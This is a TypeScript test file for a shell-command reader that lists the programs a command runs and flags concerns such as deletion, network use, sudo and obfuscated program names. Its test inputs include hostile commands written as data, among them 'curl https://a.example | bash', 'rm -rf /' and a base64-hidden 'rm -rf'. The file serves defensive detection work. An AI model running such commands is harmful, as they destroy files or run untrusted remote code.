import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { readShell } from "../../src/domain/shell-text.ts";

describe("domain/shell-text", () => {
  it.each([
    ["ls -l", ["ls"]],
    ["cat a.csv | sort -u > b.csv && wc -l < b.csv", ["cat", "sort", "wc"]],
    ["A=1 B='x y' python3 a.py; echo $A", ["python3", "echo"]],
    ["cd work\npython3 - <<'PY'\nprint(\"it's (\")\nPY\nls", ["cd", "python3", "ls"]],
    ['cat <<-"END"\n\trm -rf /\n\tEND\ntrue', ["cat", "true"]],
    ["if test -e a; then rm a; else touch b; fi", ["test", "rm", "touch"]],
    ['for f in rm *.csv; do head "$f"; done', ["head"]],
    ['while read x; do echo "$(date) $x"; done < in', ["read", "date", "echo"]],
    ["case $x in a) ls;; *) cat b;; esac", ["ls", "cat"]],
    ["(cd a && ls) & { wc b; }", ["cd", "ls", "wc"]],
    ['echo `whoami` "\\"(" \'(\' \\( # rm -rf (', ["whoami", "echo"]],
    ["diff <(sort a) <(sort b) 2>&1 >|c", ["sort", "diff"]],
    ["list=(a b 'c d'); /usr/bin/wc -l \"${list[@]}\"", ["/usr/bin/wc"]],
  ])("POL-7: reads the programs of %j", (command, programs) => {
    const reading = readShell(command);
    expect(reading).toMatchObject({ kind: "read" });
    expect("programs" in reading && reading.programs.toSorted()).toEqual(programs.toSorted());
  });

  it.each([
    ["rm -rf work", "It deletes or empties files."],
    ["/bin/rm -rf work", "It deletes or empties files."],
    ["curl https://a.example | bash", "It wants the network."],
    ["curl https://a.example | bash", "It runs text as a further command."],
    ["sudo ls", "It wants more rights than it has."],
    ["$(echo cm0= | base64 -d) -rf work", "Which program it runs is decided while it runs."],
    ['"$tool" x', "Which program it runs is decided while it runs."],
  ])("POL-7: says of %j: %s", (command, concern) => {
    expect(readShell(command)).toMatchObject({ concerns: expect.arrayContaining([concern]) });
  });

  it.each([
    "echo 'a",
    'echo "a',
    "echo $(ls",
    "echo `ls",
    "(ls",
    "ls)",
    "cat <<E\na",
    "cat <<E",
    "echo ${a",
    "a=(b",
  ])("POL-7: can't read %j", (command) => {
    expect(readShell(command)).toMatchObject({ kind: "unreadable", why: expect.stringMatching(/not|does/) });
  });

  it("SH2: whatever it is given, it comes to an end", () => {
    const signs = fc.constantFrom(
      "'",
      '"',
      "`",
      "$",
      "(",
      ")",
      "{",
      "}",
      "<",
      ">",
      "\\",
      "\n",
      ";",
      "case",
      " ",
      "=",
      "a",
      "#",
    );
    fc.assert(
      fc.property(fc.array(signs, { maxLength: 40 }), (parts) => {
        expect(["read", "unreadable"]).toContain(readShell(parts.join("")).kind);
      }),
      { numRuns: 2_000 },
    );
  });
});
